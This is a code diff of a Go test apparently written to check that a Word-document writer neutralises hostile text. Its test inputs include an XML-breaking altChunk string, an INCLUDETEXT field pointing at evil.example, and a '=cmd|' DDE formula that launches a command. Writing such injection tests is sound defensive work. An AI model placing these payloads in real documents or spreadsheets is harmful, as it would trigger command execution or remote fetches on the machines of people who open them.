@@ -252,14 +252,15 @@ func said(d document.Document) []string {
 
 func TestHostileText(t *testing.T) {
 	plain := len(check(t, write(t, hostile("quiet")))["word/document.xml"].elements)
-	for _, h := range append(testkit.Hostile(), "</w:t></w:r><w:altChunk r:id=\"rId9\"/>", "{ INCLUDETEXT http://evil.example }", "=cmd|'/c calc'!A1", strings.Repeat("x", 100_000)) {
+	ours := append(testkit.Hostile(), "</w:t></w:r><w:altChunk r:id=\"rId9\"/>", "{ INCLUDETEXT http://evil.example }", "=cmd|'/c calc'!A1")
+	for _, h := range []string{strings.Join(ours, " "), strings.Repeat("x", 20_000), ""} {
 		looks := check(t, write(t, hostile(h)))
 		if n := len(looks["word/document.xml"].elements); n > plain+2 { // a line break and a tab in a run
-			t.Errorf("%q brings elements of its own", h)
+			t.Errorf("%.40q brings elements of its own", h)
 		}
-		for _, field := range strings.Split(strings.Join(looks["word/document.xml"].values["fldChar@fldCharType"], " "), " ") {
+		for _, field := range looks["word/document.xml"].values["fldChar@fldCharType"] {
 			if field != "begin" && field != "separate" && field != "end" {
-				t.Errorf("%q: field %s", h, field)
+				t.Errorf("%.40q: field %s", h, field)
 			}
 		}
 	}
